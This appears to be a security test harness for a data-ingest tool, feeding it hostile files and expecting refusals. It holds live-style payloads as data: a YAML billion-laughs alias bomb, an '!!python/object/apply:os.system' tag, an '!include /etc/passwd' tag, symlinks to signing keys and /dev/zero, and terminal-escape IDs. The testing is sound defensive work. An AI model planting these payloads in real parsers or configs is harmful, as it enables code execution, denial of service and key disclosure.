    cols = good_columns()
    cols["subject"] = pa.array([PLANT_RIC.encode()], pa.binary())
    return write_table(ctx, cols)


@case("parquet-date32-year-1", (0, 2), held=1, rejects=("occurred_on",))
def _pq_date(ctx: Ctx) -> Plan:
    """occurred_on as date32 with 0001-01-01 beside a good date: that row rejected."""
    import pyarrow as pa

    two = {k: v * 2 for k, v in good_columns().items()}
    two["reference"] = ["GOOD-1", "BAD-1"]
    two["occurred_on"] = pa.array([dt.date(2024, 3, 1), dt.date(1, 1, 1)], pa.date32())
    two["decided_on"] = pa.array([dt.date(2024, 3, 5), dt.date(2024, 3, 5)], pa.date32())
    return write_table(ctx, two)


@case("parquet-null-subject", 0, held=1, rejects=("subject",))
def _pq_null(ctx: Ctx) -> Plan:
    """A null subject beside a good row: that row rejected."""
    two = {k: v * 2 for k, v in good_columns().items()}
    two["reference"] = ["GOOD-1", "BAD-1"]
    two["subject"] = [PLANT_RIC, None]
    return write_table(ctx, two)


@case("parquet-cell-over-131kb", (0, 2), held=1)
def _pq_big_cell(ctx: Ctx) -> Plan:
    """A 200,000-character reference beside a good row: row rejected or file refused."""
    two = {k: v * 2 for k, v in good_columns().items()}
    two["reference"] = ["GOOD-1", "R" * 200_000]
    return write_table(ctx, two)


@case("parquet-extra-column", 2, message="column")
def _pq_extra(ctx: Ctx) -> Plan:
    """An uncatalogued `name` column: refused."""
    return write_table(ctx, good_columns() | {"name": ["张三"]})


@case("parquet-missing-column", 2, message="column")
def _pq_missing(ctx: Ctx) -> Plan:
    """No `subject` column: refused."""
    cols = good_columns()
    del cols["subject"]
    return write_table(ctx, cols)


@case("parquet-10k-columns", 2, message="column")
def _pq_wide(ctx: Ctx) -> Plan:
    """10,000 extra columns: refused, with a message of bounded length."""
    cols = good_columns() | {f"c{i}": [i] for i in range(10_000)}
    return write_table(ctx, cols)


@case("parquet-duplicate-column", 2, message="column|duplicate")
def _pq_dup(ctx: Ctx) -> Plan:
    """Two `subject` columns: refused."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    cols = good_columns()
    names = [*cols, "subject"]
    arrays = [pa.array(v) for v in cols.values()] + [pa.array(["ric:11010519491231002X"])]
    path = ctx.inputs / "in.parquet"
    pq.write_table(pa.Table.from_arrays(arrays, names=names), path)
    return ingest_plan(path)


# --- the file itself ----------------------------------------------------------------------


VICTIM = b"victim: this file must not change\n"


def _victim(ctx: Ctx) -> Path:
    victim = ctx.scratch / "victim.txt"
    victim.write_bytes(VICTIM)
    return victim


def _victim_intact(victim: Path) -> Callable[[], list[str]]:
    def check() -> list[str]:
        if victim.is_symlink() or not victim.is_file():
            return [f"victim {victim.name} replaced"]
        if victim.read_bytes() != VICTIM:
            return [f"victim {victim.name} written through a symlink"]
        return []

    return check


@case("symlink-at-rejects-tmp", (0, 2), held=1, kind="file", smoke=True)
def _symlink_tmp(ctx: Ctx) -> Plan:
    """A symlink planted at FILE.rejects.csv.tmp pointing at a victim: the victim is unchanged."""
    plan = write_csv(ctx, [good(), bad(subject="ric:1")])
    victim = _victim(ctx)
    (ctx.inputs / "in.csv.rejects.csv.tmp").symlink_to(victim)
    plan.check = _victim_intact(victim)
    return plan


@case("symlink-at-rejects", (0, 2), held=1, kind="file")
def _symlink_rejects(ctx: Ctx) -> Plan:
    """A symlink planted at FILE.rejects.csv pointing at a victim: the victim is unchanged."""
    plan = write_csv(ctx, [good(), bad(subject="ric:1")])
    victim = _victim(ctx)
    (ctx.inputs / "in.csv.rejects.csv").symlink_to(victim)
    plan.check = _victim_intact(victim)
    return plan


@case("symlink-at-rejects-no-rejects", (0, 2), held=1, kind="file")
def _symlink_rejects_clean(ctx: Ctx) -> Plan:
    """A planted FILE.rejects.csv symlink and a clean file: the victim is not touched."""
    plan = write_csv(ctx, [good()])
    victim = _victim(ctx)
    (ctx.inputs / "in.csv.rejects.csv").symlink_to(victim)
    plan.check = _victim_intact(victim)
    return plan


@case("symlink-at-rejects-tmp-dangling", (0, 2), held=1, kind="file")
def _symlink_dangling(ctx: Ctx) -> Plan:
    """A dangling symlink at FILE.rejects.csv.tmp: no file is created at its target."""
    plan = write_csv(ctx, [good(), bad(subject="ric:1")])
    target = ctx.scratch / "created-through-symlink"
    (ctx.inputs / "in.csv.rejects.csv.tmp").symlink_to(target)
    plan.check = lambda: [f"{target.name} created"] if os.path.lexists(target) else []
    return plan


@case("concurrent-ingests", (0, 2), held=200, kind="file", smoke=True)
def _concurrent(ctx: Ctx) -> Plan:
    """Two ingests of the same file at once: both end cleanly, each row held once."""
    rows = [good(i) for i in range(1, 201)] + [bad(subject="ric:1")]
    plan = write_csv(ctx, rows)
    plan.commands.append(list(plan.commands[0]))
    plan.parallel = True
    return plan


@case("input-is-directory", 2, kind="file")
def _is_dir(ctx: Ctx) -> Plan:
    """A directory named in.csv: refused."""
    path = ctx.inputs / "in.csv"
    path.mkdir()
    return Plan([ingest(path)])


@case("input-is-fifo", 2, kind="file")
def _is_fifo(ctx: Ctx) -> Plan:
    """A FIFO named in.csv with no writer: refused, not a hang."""
    path = ctx.inputs / "in.csv"
    os.mkfifo(path)
    return Plan([ingest(path)], timeout=10)


@case("input-is-dev-zero", 2, kind="file")
def _dev_zero(ctx: Ctx) -> Plan:
    """in.csv a symlink to /dev/zero (an endless stream of NULs): refused within limits."""
    path = ctx.inputs / "in.csv"
    path.symlink_to("/dev/zero")
    return Plan([ingest(path)], timeout=20)


@case("input-unreadable", 2, kind="file", root_skip=True)
def _unreadable(ctx: Ctx) -> Plan:
    """A file with mode 000: refused (skipped as root, whom modes do not bind)."""
    plan = write_csv(ctx, [good()])
    plan.inputs[0].chmod(0)
    return plan


@case("input-missing", 2, kind="file")
def _missing(ctx: Ctx) -> Plan:
    """A file that does not exist: refused."""
    return Plan([ingest(ctx.inputs / "nothing.csv")])


@case("input-unknown-extension", 2, kind="file", message="format|csv")
def _xlsx(ctx: Ctx) -> Plan:
    """A .xlsx file: refused, naming the formats."""
    return write_bytes(ctx, "in.xlsx", b"PK\x03\x04" + bytes(100))


@case("input-markup-in-filename", 2, kind="file", message="[bold red]x[blink]y.xlsx")
def _markup_name(ctx: Ctx) -> Plan:
    """A file name with Rich markup ([bold red]) in a refusal message: printed, not interpreted."""
    return write_bytes(ctx, "[bold red]x[blink]y.xlsx", b"x")


@case("input-symlink-to-subject-key", 2, kind="file")
def _link_key(ctx: Ctx) -> Plan:
    """in.csv a symlink to the registry's subject key: refused, the key not echoed."""
    path = ctx.inputs / "in.csv"
    path.symlink_to(ctx.data / "subject-key")
    return Plan([ingest(path)], inputs=[path])


@case("input-symlink-to-signing-key", (0, 2), held=0, kind="file")
def _link_pem(ctx: Ctx) -> Plan:
    """in.jsonl a symlink to the signing key: nothing held, the key in no output or rejects file."""
    path = ctx.inputs / "in.jsonl"
    path.symlink_to(ctx.data / "signing-key.pem")
    return Plan([ingest(path)], inputs=[path])


@case("source-name-markup", 2, kind="file", message="source")
def _source_markup(ctx: Ctx) -> Plan:
    """--source '[/]' (Rich markup) for an unknown source: refused, printed as text."""
    plan = write_csv(ctx, [good()])
    plan.commands = [["ingest", str(plan.inputs[0]), "--source", "[/]"]]
    return plan


# --- explain with hostile identifiers -----------------------------------------------------


def _explain(
    name: str, subject: str, note: str, forbid: tuple[str, ...] = (), smoke: bool = False
) -> None:
    CASES.append(
        Case(
            name,
            lambda ctx: Plan([["explain", subject]]),
            (2,),
            kind="explain",
            forbid=forbid,
            note=note,
            smoke=smoke,
        )
    )


_explain(
    "explain-arabic-indic-digits",
    "ric:" + PLANT_RIC[4:].translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")),
    "Non-ASCII digits: refused.",
)
_explain(
    "explain-fullwidth-digits",
    "ric:" + PLANT_RIC[4:].translate(str.maketrans("0123456789", "０１２３４５６７８９")),
    "Full-width digits: refused.",
)
_explain(
    "explain-ansi-escape",
    "ric:\x1b[2J\x1b[31m110105",
    "ANSI escapes: refused, never sent raw to the terminal.",
    forbid=("\x1b",),
)
_explain(
    "explain-bidi-override",
    "x-org:AB\u202eCD",
    "A right-to-left override: refused, not printed raw.",
    forbid=("\u202e",),
)
_explain(
    "explain-rich-markup",
    "x-org:[/]",
    "Rich markup in the ID: refused and printed as text.",
    smoke=True,
)
_explain("explain-10k-chars", "ric:" + "1" * 10_000, "A 10,000-character ID: refused, briefly.")
_explain("explain-empty", "", "An empty ID: refused.")
_explain("explain-scheme-only", "ric:", "A scheme without an ID: refused.")
_explain(
    "explain-161-chars", "a" * 32 + ":" + "B" * 128, "161 characters, over the maximum: refused."
)


# --- YAML catalogues and rulebooks --------------------------------------------------------


def _shipped(kind: str, name: str) -> str:
    return (resources.files("credence") / kind / f"{name}.yaml").read_text(encoding="utf-8")


def catalogue_text() -> str:
    return _shipped("catalogues", "default")


def rulebook_text() -> str:
    return _shipped("rulebooks", "gov-default")


def _yaml(
    name: str,
    text: str | bytes | Callable[[], str | bytes],
    target: str = "catalogue",
    note: str = "",
    exit: tuple[int, ...] = (2,),
    message: str | None = None,
    smoke: bool = False,
    env: Callable[[Path], dict[str, str]] | None = None,
    command: Callable[[Path], list[str]] | None = None,
) -> None:
    def write(ctx: Ctx) -> Plan:
        body = text() if callable(text) else text
        path = ctx.inputs / f"{name}.yaml"
        if isinstance(body, str):
            path.write_text(body, encoding="utf-8")
        else:
            path.write_bytes(body)
        if command is not None:
            argv = command(path)
        elif target == "catalogue":
            argv = ["catalogue", "check", str(path)]
        else:
            argv = ["rulebook", "check", str(path)]
        return Plan(
            [argv],
            env=env(path) if env else {},
            timeout=10,  # ten times what the issue allows
        )

    CASES.append(Case(name, write, exit, kind="yaml", message=message, note=note, smoke=smoke))


def billion_laughs(top: str) -> str:
    """An 8 KB alias bomb: 30 levels of 52 references each (52^30 nodes when expanded)."""
    lines = [top, 'l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 31):
        lines.append(f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 52) + "]")
    lines.append("items: *l30")
    lines.append("points: *l30")
    text = "\n".join(lines) + "\n"
    assert 7_000 < len(text) < 10_000, len(text)
    return text


def _with_alias() -> str:
    text = catalogue_text()
    spec = "{type: string, pattern: '^[\\u4e00-\\u9fff]{2,30}法院$'}"
    assert text.count(f"court: {spec}") >= 2
    text = text.replace(f"court: {spec}", f"court: &court {spec}", 1)
    return text.replace(f"court: {spec}", "court: *court", 1)


def _merge_key() -> str:
    text = rulebook_text()
    return text.replace("score:\n", "base: &base {min: 0}\nscore:\n  <<: *base\n", 1)


def _dup_item_key() -> str:
    text = catalogue_text()
    return text.replace(
        "    severity: serious\n", "    severity: serious\n    severity: minor\n", 1
    )


def _dup_top_key() -> str:
    return rulebook_text() + 'version: "evil"\n'


def _padded(text: str, size: int) -> str:
    pad = "# " + "x" * 1000 + "\n"
    return text + pad * (size // len(pad) + 1)


_yaml(
    "yaml-billion-laughs-catalogue",
    lambda: billion_laughs("catalogue: x\nversion: '1'"),
    note="8 KB alias bomb as a catalogue: refused within 1 s and 100 MB.",
    message="alias|anchor",
    smoke=True,
)
_yaml(
    "yaml-billion-laughs-rulebook",
    lambda: billion_laughs("rulebook: x\nversion: '1'\ncatalogue: default"),
    "rulebook",
    "8 KB alias bomb as a rulebook: refused.",
    message="alias|anchor",
)
_yaml(
    "yaml-alias-in-catalogue",
    _with_alias,
    note="One ordinary anchor and alias in the default catalogue: aliases are refused.",
    message="alias|anchor",
)
_yaml(
    "yaml-merge-key-rulebook",
    _merge_key,
    "rulebook",
    "A merge key (<<: *base): an alias, refused.",
    message="alias|anchor|merge",
)
_yaml(
    "yaml-custom-tag",
    lambda: catalogue_text().replace('version: "2026.1"', "version: !include /etc/passwd", 1),
    note="A custom tag (!include): refused.",
    message="tag",
)
_yaml(
    "yaml-binary-tag",
    lambda: catalogue_text().replace('version: "2026.1"', "version: !!binary aGVsbG8=", 1),
    note="A standard tag (!!binary): no tags, refused.",
    message="tag",
)
_yaml(
    "yaml-python-name-tag-rulebook",
    lambda: rulebook_text().replace(
        "rulebook: gov-default", "rulebook: !!python/name:os.system", 1
    ),
    "rulebook",
    "A !!python/name tag: refused.",
    message="tag",
)
_yaml(
    "yaml-deep-flow-seq-100k",
    lambda: "catalogue: x\nitems: " + "[" * 100_000 + "]" * 100_000 + "\n",
    note="A sequence nested 100,000 deep: refused by the depth limit.",
    message="deep|depth|nest",
    smoke=True,
)
_yaml(
    "yaml-deep-flow-map-100k-rulebook",
    lambda: "rulebook: x\nscore: " + "{a: " * 100_000 + "1" + "}" * 100_000 + "\n",
    "rulebook",
    "A mapping nested 100,000 deep: refused.",
    message="deep|depth|nest",
)
_yaml(
    "yaml-deep-block-200",
    lambda: (
        "catalogue: x\nitems:\n"
        + "".join(" " * i + f"k{i}:\n" for i in range(1, 201))
        + " " * 201
        + "v: 1\n"
    ),
    note="Block mappings nested 200 deep: refused by the depth limit.",
    message="deep|depth|nest",
)
_yaml(
    "yaml-5mb-comments",
    lambda: _padded(catalogue_text(), 5 * MiB),
    note="A valid catalogue padded to 5 MB: refused by the size limit.",
    message="size|large|big|byte|MB|KB",
)
_yaml(
    "yaml-5mb-scalar",
    lambda: catalogue_text().replace('version: "2026.1"', 'version: "' + "9" * (5 * MiB) + '"', 1),
    note="One 5 MB scalar: refused by the size limit.",
    message="size|large|big|byte|MB|KB",
)
_yaml(
    "yaml-200k-keys",
    lambda: (
        "catalogue: x\nitems: []\nextra: {"
        + ", ".join(f"k{i}: {i}" for i in range(200_000))
        + "}\n"
    ),
    note="A mapping of 200,000 keys (2.6 MB): refused.",
)
_yaml(
    "yaml-invalid-utf8",
    lambda: catalogue_text().encode().replace(b"# credence", b"# cred\xff\xfence", 1),
    note="Invalid UTF-8 bytes in a comment: strict UTF-8, refused.",
    message="utf-8|utf8|encoding|decode",
    smoke=True,
)
_yaml(
    "yaml-utf16-bom",
    lambda: b"\xff\xfe" + catalogue_text().encode("utf-16-le"),
    note="The default catalogue in UTF-16 LE with a BOM: strict UTF-8, refused.",
    message="utf-8|utf8|encoding|decode",
)
_yaml(
    "yaml-utf16-rulebook",
    lambda: b"\xfe\xff" + rulebook_text().encode("utf-16-be"),
    "rulebook",
    "A rulebook in UTF-16 BE with a BOM: refused.",
    message="utf-8|utf8|encoding|decode",
)
_yaml(
    "yaml-tab-indentation",
    lambda: catalogue_text().replace("\n    title:", "\n\ttitle:", 1),
    note="A tab used for indentation: refused with the line.",
)
_yaml(
    "yaml-bad-indentation",
    lambda: catalogue_text().replace("\n    title:", "\n      title:", 1),
    note="A mis-indented key: refused with the line.",
)
_yaml(
    "yaml-duplicate-item-key",
    _dup_item_key,
    note="An item with `severity` twice: refused, not last-one-wins.",
    message="duplicate",
)
_yaml(
    "yaml-duplicate-top-key-rulebook",
    _dup_top_key,
    "rulebook",
    "A rulebook with `version` twice: refused.",
    message="duplicate",
)
_yaml(
    "yaml-multi-document",
    lambda: catalogue_text() + "---\ncatalogue: second\n",
    note="Two YAML documents: refused.",
)
_yaml(
    "yaml-nul-byte",
    lambda: catalogue_text().replace("catalogue: default", "catalogue: def\x00ault", 1),
    note="A NUL character: refused.",
)
_yaml("yaml-empty", "", note="An empty file: refused.")
_yaml("yaml-top-level-list", "- a\n- b\n", note="A list at the top level: refused.")
_yaml(
    "yaml-score-nan",
    lambda: rulebook_text().replace("  max: 1100\n", "  max: .nan\n", 1),
    "rulebook",
    "A score maximum of .nan: refused.",
)
_yaml(
    "yaml-bomb-via-setting",
    lambda: billion_laughs("catalogue: x\nversion: '1'"),
    note="CREDENCE_CATALOGUE naming the alias bomb, for `source list`: refused.",
    env=lambda path: {"CREDENCE_CATALOGUE": str(path)},
    command=lambda path: ["source", "list"],
)
_yaml(
    "yaml-bomb-via-score",
    lambda: billion_laughs("rulebook: x\nversion: '1'\ncatalogue: default"),
    note="`score --rulebook BOMB.yaml`: refused.",
    command=lambda path: [
        "score",
        "--rulebook",
        str(path),
        "--out",
        str(path.with_suffix(".jsonl")),
    ],
)


@case("yaml-python-object-tag", 2, kind="yaml", message="tag")
def _python_tag(ctx: Ctx) -> Plan:
    """!!python/object/apply:os.system in a catalogue: refused, and never run."""
    marker = ctx.scratch / "PWNED"
    path = ctx.inputs / "cat.yaml"
    path.write_text(
        catalogue_text().replace(
            'version: "2026.1"', f'version: !!python/object/apply:os.system ["touch {marker}"]', 1
        )
    )
    return Plan(
        [["catalogue", "check", str(path)]],
        check=lambda: [f"{marker.name} created: the tag was run"] if marker.exists() else [],
    )


@case("yaml-fifo", 2, kind="yaml")
def _yaml_fifo(ctx: Ctx) -> Plan:
    """A FIFO named cat.yaml with no writer: refused, not a hang."""
    path = ctx.inputs / "cat.yaml"
    os.mkfifo(path)
    return Plan([["catalogue", "check", str(path)]], timeout=10)


@case("yaml-symlink-to-signing-key", 2, kind="yaml")
def _yaml_pem(ctx: Ctx) -> Plan:
    """A catalogue that is a symlink to the signing key: refused, the key not echoed."""
    path = ctx.inputs / "cat.yaml"
    path.symlink_to(ctx.data / "signing-key.pem")
    return Plan([["catalogue", "check", str(path)]])


# --- controls: the harness itself ---------------------------------------------------------


@case("control-valid-csv", 0, held=2, rejects=(), kind="control", smoke=True)
def _control_csv(ctx: Ctx) -> Plan:
    """Not hostile: two good rows, both accepted (checks the harness)."""
    return write_csv(ctx, [good(1), good(2)])


@case("control-valid-catalogue", 0, kind="control")
def _control_yaml(ctx: Ctx) -> Plan:
    """Not hostile: the shipped catalogue (the time and memory baseline for YAML cases)."""
    path = ctx.inputs / "catalogue.yaml"
    path.write_text(catalogue_text())
    return Plan([["catalogue", "check", str(path)]])


def _check_names() -> None:
    names = [c.name for c in CASES]
    dupes = {n for n in names if names.count(n) > 1}
    assert not dupes, dupes


_check_names()
HOSTILE = [c for c in CASES if c.kind != "control"]
